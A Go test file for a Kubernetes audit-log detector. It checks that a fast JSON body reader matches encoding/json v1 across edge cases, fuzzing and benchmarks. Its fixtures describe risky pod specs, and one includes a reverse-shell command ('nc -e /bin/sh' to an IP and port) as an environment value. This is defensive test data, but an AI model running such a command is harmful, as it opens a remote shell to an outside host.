package detect

import (
	"bytes"
	"compress/gzip"
	jsonv1 "encoding/json"
	"encoding/json/jsontext"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"

	"github.com/vnfguard/vnfguard/internal/danger"
	"github.com/vnfguard/vnfguard/rules"
)

// decodeObjectV1 is decodeObject as it was, with encoding/json v1: the reading decodeObject must keep.
func decodeObjectV1(raw []byte) map[string]any {
	var m map[string]any
	if len(raw) == 0 || jsonv1.Unmarshal(raw, &m) != nil || m == nil {
		return map[string]any{}
	}
	return m
}

// corpusFiles returns the JSON-lines audit corpora of the repository: the benchmark corpus, the detect and audit
// packages' fixtures, and the audit log recorded from a real API server (corpus/testdata, uncompressed here).
func corpusFiles(t testing.TB) [][]byte {
	t.Helper()
	var out [][]byte
	for _, path := range []string{
		"testdata/corpus.jsonl", "testdata/cases/events.jsonl", "testdata/exec-get.json",
		"../audit/testdata/corpus.jsonl", "corpus/testdata/audit.jsonl.gz",
	} {
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Ext(path) == ".gz" {
			zr, err := gzip.NewReader(bytes.NewReader(data))
			if err != nil {
				t.Fatal(err)
			}
			if data, err = io.ReadAll(zr); err != nil {
				t.Fatalf("%s: %v", path, err)
			}
		}
		out = append(out, data)
	}
	return out
}

// corpusBodies returns every request and response body of the corpora and of the rule test suites.
func corpusBodies(t testing.TB) [][]byte {
	t.Helper()
	var bodies [][]byte
	add := func(ev *auditv1.Event) {
		for _, u := range []*runtime.Unknown{ev.RequestObject, ev.ResponseObject} {
			if u != nil {
				bodies = append(bodies, u.Raw)
			}
		}
	}
	for _, ev := range corpusEvents(t) {
		add(ev)
	}
	suites, err := LoadSuites(rules.FS, "tests")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range suites {
		for _, c := range s.Cases {
			for _, ev := range c.events {
				add(ev)
			}
		}
	}
	return bodies
}

// TestDecodeObjectMatchesV1: the body decoder reads every body of the corpora, and each edge case of v1's reading
// (duplicate names, invalid UTF-8, escapes, numbers, non-objects), exactly as encoding/json v1 did.
func TestDecodeObjectMatchesV1(t *testing.T) {
	bodies := corpusBodies(t)
	if len(bodies) < 100 {
		t.Fatalf("only %d bodies in the corpora: the comparison would prove little", len(bodies))
	}
	edge := []string{
		`{}`, `null`, `[]`, `[{"a":1}]`, `"s"`, `1`, `true`, ``, `{"a":1}x`, `{"a":1} `, ` {"a":1}`, `{"a":}`, `{"a":1,}`,
		`{"a":{"x":1,"z":[1]},"a":{"y":2}}`,          // duplicate: v1 replaces, never merges
		`{"metadata":{"labels":{"p":"1","p":null}}}`, // duplicate inside
		"{\"k\":\"a\xffb\",\"\xfe\":1}",              // invalid UTF-8 in a value and a name
		`{"e":"\u00e9\ud83d\ude00\ud800x\n\"\\\/"}`,  // escapes, a surrogate pair, a lone surrogate
		`{"n":[0,-0,1.5e3,12345678901234567890,1e-400,-1E+2]}`,
		`{"big":1e400}`, // out of range: v1 fails the whole body
		`{"deep":[[[[[[[[[[{"a":[{"b":null}]}]]]]]]]]]]}`,
		`{"t":true,"f":false,"z":null,"s":"","o":{},"l":[]}`,
		`{"kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"c","securityContext":{"privileged":true}}]}}`,
	}
	for _, s := range edge {
		bodies = append(bodies, []byte(s))
	}
	for _, raw := range bodies {
		got := decodeObject(&runtime.Unknown{Raw: raw})
		if want := decodeObjectV1(raw); !reflect.DeepEqual(got, want) {
			t.Errorf("body %.120q:\ngot  %#v\nwant %#v", raw, got, want)
		}
	}
	if got := decodeObject(nil); got == nil || len(got) != 0 {
		t.Errorf("decodeObject(nil) = %#v, want an empty map", got)
	}
}

// kindReading is what the helpers read of a kind: whether it is there and not null, and whether it is a string
// and which.
type kindReading struct {
	set, isString bool
	kind          string
}

// helperReading is everything the engine's own helpers read of a full decode: its kind, what metaFromMap makes of
// its metadata, and what hostTakeover, podCommands and danger.PodOfMap make of the pod spec podSpecOf finds.
func helperReading(obj map[string]any) []any {
	var meta *metav1.ObjectMeta
	if md, ok := obj["metadata"].(map[string]any); ok {
		meta = metaFromMap(md)
	}
	k, isString := obj["kind"].(string)
	spec := podSpecOf(obj)
	return []any{kindReading{obj["kind"] != nil, isString, k}, meta, mapHostTakeover(spec), mapPodCommands(spec), danger.PodOfMap(spec)}
}

// viewReading is helperReading of a body's view.
func viewReading(v *bodyView) []any {
	var meta *metav1.ObjectMeta
	if v.meta.object {
		meta = v.objectMeta("")
	}
	spec := v.podSpec()
	return []any{kindReading{v.kindSet, v.kindString, v.kind}, meta, spec.hostTakeover(), spec.podCommands(), spec.dangerPod()}
}

// readsAsFullDecode reports how the view of raw and its full decode differ for the helpers, or "".
func readsAsFullDecode(raw []byte) string {
	var v bodyView
	readView(&runtime.Unknown{Raw: raw}, &v)
	full := decodeObject(&runtime.Unknown{Raw: raw})
	if v.object != (len(full) > 0 || isEmptyObject(raw)) {
		return fmt.Sprintf("the view reads it as an object: %v; the full decode is %#v", v.object, full)
	}
	if got, want := viewReading(&v), helperReading(full); !reflect.DeepEqual(got, want) {
		return fmt.Sprintf("the helpers read\n%#v from the view,\n%#v from the full decode", got, want)
	}
	return ""
}

// declaredJSONReadsAsChecked reports how the view of raw declared JSON (not checked again) differs from its view
// checked first, or "". Both are read on any input (the unchecked scan must end without a fault on bytes that are
// not JSON); they must agree on JSON.
func declaredJSONReadsAsChecked(raw []byte) string {
	var declared, checked bodyView
	readView(&runtime.Unknown{Raw: raw, ContentType: runtime.ContentTypeJSON}, &declared)
	readView(&runtime.Unknown{Raw: raw}, &checked)
	if jsontext.Value(raw).IsValid(viewValidity...) && !reflect.DeepEqual(declared, checked) {
		return fmt.Sprintf("declared JSON, the view is\n%#v; checked first\n%#v", declared, checked)
	}
	return ""
}

// isEmptyObject reports whether raw is {} (with whitespace): the full decode's {} for it is an object, not a failure.
func isEmptyObject(raw []byte) bool {
	var m map[string]any
	return jsonv1.Unmarshal(raw, &m) == nil && m != nil && len(m) == 0
}

// viewEdgeBodies are bodies that test the view's shape: members in any order, duplicates (last wins, also of a
// whole spec), values of the wrong kind where the shape wants an object or an array, numbers out of range in members
// the view leaves out (the full decode then fails, and so must the view), and workloads and CronJobs.
var viewEdgeBodies = []string{
	`{"spec":{"hostPID":true},"kind":"Pod"}`,
	`{"kind":"Pod","spec":{"hostPID":true},"spec":{"hostIPC":true}}`,
	`{"kind":"Pod","spec":{"containers":[{"name":"a"}],"containers":"x"}}`,
	`{"kind":"Pod","spec":{"containers":["s",1,null,{"name":"b","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN",1]}}}]}}`,
	`{"kind":"Pod","spec":{"containers":{"name":"a"},"volumes":[{"name":"v","hostPath":{"path":"/"}},{"hostPath":"/"},"x"]}}`,
	`{"kind":"Pod","spec":{"containers":[{"env":["x",{"value":"nc -e /bin/sh 1.2.3.4 4444","name":"E"},{"value":2}],"command":"sh"}]}}`,
	`{"kind":"Pod","status":{"x":1e400},"spec":{"hostPID":true}}`,
	`{"kind":"Pod","status":{"x":"1e400"},"spec":{"hostPID":true}}`,
	`{"kind":"Pod","apiVersion":"v1","metadata":{"uid":12345678901234567890123,"name":"p"},"spec":{}}`,
	`{"kind":"Pod","metadata":{"annotations":{"a":"b"},"x":[1e308,-1e309]}}`,
	`{"kind":"Pod","metadata":{"x":"\"1e400"}}`,
	`{"kind":"Pod","metadata":{"x":"` + strings.Repeat("9", 400) + `"},"y":` + strings.Repeat("9", 400) + `}`,
	`{"kind":"Pod","y":` + strings.Repeat("9", 300) + `}`,
	`{"kind":"Pod","y":0.` + strings.Repeat("0", 400) + `1}`,
	`{"kind":"Pod","metadata":[],"spec":[]}`,
	`{"kind":"Pod","metadata":{"name":1,"namespace":"n","labels":{"a":"b","c":1},"ownerReferences":[{"kind":"ReplicaSet","name":"r","controller":true,"uid":"u"},"x",{"controller":"true"}]}}`,
	`{"kind":"Deployment","spec":{"replicas":1,"template":{"metadata":{},"spec":{"hostNetwork":true,"initContainers":[{"name":"i","livenessProbe":{"exec":{"command":["a","b"]}},"lifecycle":{"postStart":{"exec":{"command":["c"]}},"preStop":{"httpGet":{}}}}]}}}}`,
	`{"kind":"CronJob","spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"securityContext":{"runAsUser":0},"containers":[{"name":"c","securityContext":{"runAsUser":0.5,"runAsNonRoot":false}}]}}}}}}`,
	`{"kind":"Pod","spec":{"template":{"spec":{"hostPID":true}},"hostIPC":true}}`,
	`{"kind":"Status","metadata":{"name":"x"}}`,
	`{"ki\u006ed":"Pod","sp\u0065c":{"hostPID":true}}`,
	"{\"kind\":\"Pod\",\"spec\":{\"containers\":[{\"name\":\"\xff\"}]},\"\xfe\":1}",
	`{"kind":null,"metadata":{"name":"n"}}`,
	`{"kind":"Pod","kind":null}`,
	`{"kind":"Pod","metadata":"x"}`,
	`{"kind":"Pod","metadata":null}`,
	`{"kind":"Pod","metadata":{"name":null}}`,
	`{"kind":"Pod","metadata":{"name":"a","name":["b"]}}`,
	`{"kind":"Pod","metadata":{}}`,
	`{"kind":"Pod","kind":7,"metadata":{"name":"n"}}`,
	// Duplicates at each level the view reads into its own fields: the last value replaces the earlier one whole.
	`{"metadata":{"labels":{"p":"1","p":null,"q":"2","q":"3","r":1,"r":"4"}}}`,
	`{"metadata":{"labels":{"p":"1"},"labels":{"s":"5"}}}`,
	`{"metadata":{"labels":{"p":"1"},"labels":"x","ownerReferences":[{"kind":"R","controller":true,"controller":"y"}]}}`,
	"{\"metadata\":{\"labels\":{\"a\\u0062\":\"c\",\"\xff\":\"d\"}}}",
	`{"kind":"Pod","metadata":{"name":"a"},"metadata":{"namespace":"b"}}`,
	`{"kind":"Pod","spec":{"securityContext":{"runAsUser":0},"securityContext":{"runAsNonRoot":true},"containers":[{"name":"c","securityContext":{"privileged":true},"securityContext":{"runAsUser":1e3}}]}}`,
	`{"kind":"Pod","spec":{"containers":[{"lifecycle":{"preStop":{"exec":{"command":["a"]}}},"lifecycle":{}}]}}`,
	`{"kind":"Pod","spec":{"containers":[1],"containers":[]}}`,
	`{"kind":"Pod","spec":{"containers":[{"command":["x"],"args":[""]},{"command":[],"args":["y",1,"z"]},{"command":[""],"args":[]},{"command":[""],"args":["y"]},{"command":["a\tb","\u0063"]}]}}`,
	`{"kind":"Pod","spec":{"containers":[{"env":[{"value":"a"}],"env":[]}]}}`,
	`{"kind":"Deployment","spec":{"template":{"spec":{"hostPID":true},"spec":{}}}}`,
	`{"kind":"CronJob","spec":{"jobTemplate":{"spec":{"template":{"spec":{"hostPID":true}}}},"jobTemplate":{}}}`,
	`{"kind":"Pod","spec":{"containers":[{"lifecycle":{"postStart":{"exec":{"command":["a"]}},"postStart":{"httpGet":{}}},"livenessProbe":{"exec":{"command":["b"],"command":"c"}},"readinessProbe":{"exec":{"command":["d"]},"exec":{}}}]}}`,
	`{"kind":"Pod","spec":{"containers":[{"env":[{"value":"a","value":""},{"value":"b","name":"x","value":"c"}],"command":["x"],"command":[],"args":["y"]}]}}`,
	`{"kind":"Pod","spec":{"containers":[1,2,3],"containers":[{"name":"a"}],"initContainers":[{"name":"i"},"x"],"initContainers":[]}}`,
	`{"kind":"Pod","spec":{"volumes":[{"name":"v","hostPath":{"path":"/"},"hostPath":{}}],"hostPID":true,"hostPID":"true"}}`,
	`{"kind":"Deployment","spec":{"template":{"spec":{"hostPID":true}},"template":{"metadata":{}}}}`,
	`{"kind":"CronJob","spec":{"jobTemplate":{"spec":{"template":{"spec":{"hostPID":true}}},"spec":{"template":"x"}}}}`,
	`{"kind":"Pod","spec":{"hostPID":true},"spec":{}}`,
	`{"kind":"Pod","spec":{"containers":[{"name":"a\"b\\","command":["\\\"","\ud83d\ude00"],"securityContext":{"runAsUser":-0,"capabilities":{"add":["SYS_ADMIN"],"add":"x"}}}]}}`,
	`{"kind":"Pod","spec":{"containers":[{"securityContext":{"runAsUser":9223372036854775807}},{"securityContext":{"runAsUser":1.5}},{"securityContext":{"runAsUser":-1E2}}]}}`,
	` {"kind" : "Pod" , "spec" : { "hostIPC" : true , "volumes" : [ ] } } `,
	`{"kind":"Pod","metadata":{"ownerReferences":[]},"spec":{"containers":[{"name":"c","env":"x","lifecycle":[]}]}}`,
}

// TestDeclaredJSONNotChecked: a body declared JSON is read without a second syntax check, and reads as the body
// checked first when it is JSON (every corpus body and viewEdgeBodies); bytes that are not JSON but say they are
// end the scan without a fault, and a body cut short or missing its punctuation reads as {}, as the full decode
// reads it. Checked bodies still read as the full decode: TestBodyViewReadsAsFullDecode.
func TestDeclaredJSONNotChecked(t *testing.T) {
	bodies := corpusBodies(t)
	for _, s := range viewEdgeBodies {
		bodies = append(bodies, []byte(s))
	}
	for _, raw := range bodies {
		if diff := declaredJSONReadsAsChecked(raw); diff != "" {
			t.Errorf("body %.200q: %s", raw, diff)
		}
	}
	pod := `{"kind":"Pod","metadata":{"name":"p","labels":{"a":"b"}},"spec":{"hostPID":true,"containers":[{"name":"c","command":["sh","-c","x"],"securityContext":{"privileged":true,"runAsUser":0}}]}}`
	var cuts []string
	for i := 1; i < len(pod); i++ {
		cuts = append(cuts, pod[:i])
	}
	for _, raw := range append(cuts,
		`{"kind" "Pod"}`, `{"kind":"Pod" "spec":{}}`, `{"spec":{"hostPID":true]}`, `{"spec":{"hostPID":tru}}`,
		`{"spec":{"hostPID":nul,"x":1}}`, `{"spec":{"containers":[{"name":"c"} {"name":"d"}]}}`,
		`{"a":x}`, `{"a":"\"}`, `{"a":{"b":[{"c":`,
	) {
		var v bodyView
		readView(&runtime.Unknown{Raw: []byte(raw), ContentType: runtime.ContentTypeJSON}, &v)
		if v.object {
			t.Errorf("body %q, not JSON, declared JSON: the view reads it as an object (%+v); the full decode reads {}", raw, v)
		}
	}
	// Inside a value the view skips, only what finds the value's end is read: these are read to their end without a
	// fault, whatever they read as.
	for _, raw := range []string{`{"spec":{"volumes":[1,,2]}}`, `{"a":-}`, `{"a":[}`, "{\"a\":\"\x01\"}", "{\"a\":\"\x00\"}"} {
		var v bodyView
		readView(&runtime.Unknown{Raw: []byte(raw), ContentType: runtime.ContentTypeJSON}, &v)
	}
}

// TestBodyViewReadsAsFullDecode: the helpers read the same of the view of every body of the corpora and of
// viewEdgeBodies as of its full decode; and so do the activation's objectMeta() and pod spec, which choose between
// the request and the response body, over every event of the corpora.
func TestBodyViewReadsAsFullDecode(t *testing.T) {
	bodies := corpusBodies(t)
	for _, s := range viewEdgeBodies {
		bodies = append(bodies, []byte(s))
	}
	pods := 0
	for _, raw := range bodies {
		if diff := readsAsFullDecode(raw); diff != "" {
			t.Errorf("body %.200q: %s", raw, diff)
		}
		for _, ev := range bodyEvents(raw) {
			if diff := activationReadsAsFullDecode(ev); diff != "" {
				t.Errorf("body %.200q as %s: %s", raw, ev.AuditID, diff)
			}
		}
		if decodeObject(&runtime.Unknown{Raw: raw})["kind"] == "Pod" {
			pods++
		}
	}
	if pods < 20 {
		t.Errorf("only %d pod bodies compared", pods)
	}
	// One view read again and again, as a pooled scratch's is, reads each body as a new view does, and the strings
	// read from the bodies before (commands, names, labels: slices of a scan's text) stay as they were read: a new
	// scan never writes where an earlier one's strings are.
	var reused bodyView
	var kept, want []string
	viewStrings := func(v *bodyView) []string {
		out := append(v.podSpec().podCommands(), v.meta.name, v.meta.namespace)
		for _, k := range slices.Sorted(maps.Keys(v.meta.labels)) {
			out = append(out, k, v.meta.labels[k])
		}
		return out
	}
	for _, raw := range bodies {
		var fresh bodyView
		readView(&runtime.Unknown{Raw: raw}, &fresh)
		readView(&runtime.Unknown{Raw: raw}, &reused)
		if !reflect.DeepEqual(reused, fresh) {
			t.Errorf("body %.200q: read into a view used before, %+v; into a new one, %+v", raw, reused, fresh)
		}
		kept = append(kept, viewStrings(&reused)...)
		want = append(want, viewStrings(&fresh)...)
	}
	if len(want) < 20 || !slices.Equal(kept, want) {
		t.Errorf("strings read into one view, body after body: %q; read into new views: %q", kept, want)
	}
	var nothing bodyView
	readView(nil, &nothing)
	if !reflect.DeepEqual(nothing, bodyView{}) {
		t.Errorf("the view of no body is %#v, want the zero view", nothing)
	}
	for _, ev := range corpusEvents(t) {
		if diff := activationReadsAsFullDecode(ev); diff != "" {
			t.Errorf("event %s: %s", ev.AuditID, diff)
		}
	}
}

// bodyEvents are events with raw as their request body, response body, or both, for the activation's choice
// between them.
func bodyEvents(raw []byte) []*auditv1.Event {
	status := &runtime.Unknown{Raw: []byte(`{"kind":"Status","metadata":{}}`)}
	body := &runtime.Unknown{Raw: raw}
	return []*auditv1.Event{
		{AuditID: "req", RequestObject: body},
		{AuditID: "resp", ResponseObject: body, ObjectRef: &auditv1.ObjectReference{Namespace: "ns", Name: "ref"}},
		{AuditID: "both", RequestObject: body, ResponseObject: body},
		{AuditID: "status", RequestObject: body, ResponseObject: status},
	}
}

// activationReadsAsFullDecode reports how the activation's objectMeta() and pod spec of ev differ from those the
// engine read of the full decodes of its bodies, or "".
func activationReadsAsFullDecode(ev *auditv1.Event) string {
	a := &activation{ev: ev}
	a.event = &newEventState(ev).root
	req, resp := decodeObject(ev.RequestObject), decodeObject(ev.ResponseObject)
	got, gotOK := a.objectMeta()
	want, wantOK := mapObjectMeta(req, resp)
	if wantOK && want.Namespace == "" && ev.ObjectRef != nil {
		want.Namespace = ev.ObjectRef.Namespace
	}
	if gotOK != wantOK || !reflect.DeepEqual(got, want) {
		return fmt.Sprintf("objectMeta() %#v, %v; from the full decodes %#v, %v", got, gotOK, want, wantOK)
	}
	if diff := objectNameAgreesWithCEL(a); diff != "" {
		return diff
	}
	spec := podSpecOf(writtenObject(func() map[string]any { return req }, func() map[string]any { return resp }))
	view := a.podSpecView()
	if g, w := []any{view.hostTakeover(), view.podCommands(), view.dangerPod()},
		[]any{mapHostTakeover(spec), mapPodCommands(spec), danger.PodOfMap(spec)}; !reflect.DeepEqual(g, w) {
		return fmt.Sprintf("the pod spec reads\n%#v from the views,\n%#v from the full decodes", g, w)
	}
	return ""
}

// objectNameOutput is the output the built-in rules print a created object's name with, compiled.
var objectNameOutput = sync.OnceValue(func() outputPart {
	parts, err := compileOutput(`${object().?metadata.?name.orValue(event.objectRef.name)}`)
	if err != nil || len(parts) != 1 || parts[0].str == nil {
		panic(fmt.Sprintf("the output is not done in Go: %v", err))
	}
	return parts[0]
})

// objectNameAgreesWithCEL reports how objectName's text for a's event differs from what CEL prints, when objectName
// tells (ok) — else CEL must print something objectName could not have: a name or metadata of another kind.
func objectNameAgreesWithCEL(a *activation) string {
	part := objectNameOutput()
	got, ok := part.str(a)
	want := "<error>"
	prog, err := part.prog.get()
	if err != nil {
		return fmt.Sprintf("the output's program: %v", err)
	}
	if v, _, err := prog.Eval(a); err == nil {
		want = valueString(v)
	}
	if ok && got != want {
		return fmt.Sprintf("object().?metadata.?name.orValue(...) prints %q in Go, %q in CEL", got, want)
	}
	if md, isMap := a.object()["metadata"].(map[string]any); !ok && isMap {
		if name, isString := md["name"].(string); isString || md["name"] == nil && !hasKey(md, "name") {
			return fmt.Sprintf("objectName left %q (%v) to CEL, which it could read", name, md["name"])
		}
	}
	return ""
}

func hasKey(m map[string]any, k string) bool {
	_, ok := m[k]
	return ok
}

// mapObjectMeta is objectMeta() as the engine read it of the full decodes: the request's metadata, or the
// response's when the request names no object.
func mapObjectMeta(req, resp map[string]any) (*metav1.ObjectMeta, bool) {
	var fallback map[string]any
	for i, obj := range []map[string]any{req, resp} {
		md, _ := obj["metadata"].(map[string]any)
		if md == nil {
			continue
		}
		if kind, _ := obj["kind"].(string); kind == "Status" || strings.HasSuffix(kind, "List") {
			continue
		}
		if name, _ := md["name"].(string); name != "" {
			return metaFromMap(md), true
		}
		if i == 0 {
			fallback = md
		}
	}
	if fallback != nil {
		return metaFromMap(fallback), true
	}
	return nil, false
}

// FuzzDecodeObject holds the body decoder to encoding/json v1's reading on any input: same map, or both {}; and the
// view to the full decode, as the helpers read them, of the body alone and as the request or response of an event.
func FuzzDecodeObject(f *testing.F) {
	for i, raw := range corpusBodies(f) {
		if i%5 == 0 { // a sample is enough to seed; the fuzzer mutates from there
			f.Add(raw)
		}
	}
	f.Add([]byte(`{"a":{"x":1},"a":{"y":2},"b":"\ud800"}`))
	f.Add([]byte("{\"k\":\"\xff\"}"))
	for _, s := range viewEdgeBodies {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		got := decodeObject(&runtime.Unknown{Raw: raw})
		if want := decodeObjectV1(raw); !reflect.DeepEqual(got, want) {
			t.Fatalf("body %q:\ngot  %#v\nwant %#v", raw, got, want)
		}
		if diff := readsAsFullDecode(raw); diff != "" {
			t.Fatalf("body %q: %s", raw, diff)
		}
		if diff := declaredJSONReadsAsChecked(raw); diff != "" {
			t.Fatalf("body %q: %s", raw, diff)
		}
		for _, ev := range bodyEvents(raw) {
			if diff := activationReadsAsFullDecode(ev); diff != "" {
				t.Fatalf("body %q as %s: %s", raw, ev.AuditID, diff)
			}
		}
	})
}

func BenchmarkDecodeObject(b *testing.B) {
	var bodies [][]byte
	for _, l := range corpusLines(b) {
		var ev auditv1.Event
		if err := jsonv1.Unmarshal(l, &ev); err != nil {
			b.Fatal(err)
		}
		if ev.RequestObject != nil {
			bodies = append(bodies, ev.RequestObject.Raw)
		}
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		decodeObject(&runtime.Unknown{Raw: bodies[i%len(bodies)]})
	}
}

// TestPlain: plain is "no backslash and valid UTF-8", in one loop for ASCII.
func TestPlain(t *testing.T) {
	for _, in := range []string{"", "name", "a\\n", "\\", "é", "é\\", "aé", "\xff", "a\xff", "\xe2\x82", "€uro", "x\\\xff"} {
		want := !strings.Contains(in, "\\") && utf8.ValidString(in)
		if got := plain([]byte(in)); got != want {
			t.Errorf("plain(%q) = %v, want %v", in, got, want)
		}
	}
}

// TestViewStringsOutgrowTheirBuffer: a body whose strings are most of it outgrows the text buffer readView sizes
// from it (a sixteenth of the body and 64 bytes); the strings read before and after the buffer grew are all whole,
// and stay so when the view is read again.
func TestViewStringsOutgrowTheirBuffer(t *testing.T) {
	long := strings.Repeat("n", 300)
	body := `{"kind":"Pod","metadata":{"name":"` + long + `","namespace":"ns-` + long + `","labels":{"k-` + long + `":"v-` +
		long + `"}},"spec":{"containers":[{"name":"c-` + long + `","command":["sh","-c","echo ` + long + `"]}]}}`
	var v bodyView
	readView(&runtime.Unknown{Raw: []byte(body), ContentType: runtime.ContentTypeJSON}, &v)
	if !v.object {
		t.Fatal("the body read as {}")
	}
	meta, pod := v.meta, v.podSpec()
	if pod == nil || len(pod.containers[1]) != 1 {
		t.Fatalf("the pod spec reads as %+v", pod)
	}
	ctr := pod.containers[1][0]
	want := map[string]string{"name": long, "namespace": "ns-" + long, "label": "v-" + long, "container": "c-" + long,
		"command": "sh -c echo " + long}
	got := func() map[string]string {
		return map[string]string{"name": meta.name, "namespace": meta.namespace, "label": meta.labels["k-"+long],
			"container": ctr.name, "command": ctr.command}
	}
	if g := got(); !maps.Equal(g, want) {
		t.Fatalf("strings read %q, want %q", g, want)
	}
	readView(&runtime.Unknown{Raw: []byte(`{"kind":"Pod","metadata":{"name":"other"}}`), ContentType: runtime.ContentTypeJSON}, &v)
	if g := got(); !maps.Equal(g, want) {
		t.Fatalf("after the view was read again, the strings read before are %q, want %q", g, want)
	}
}
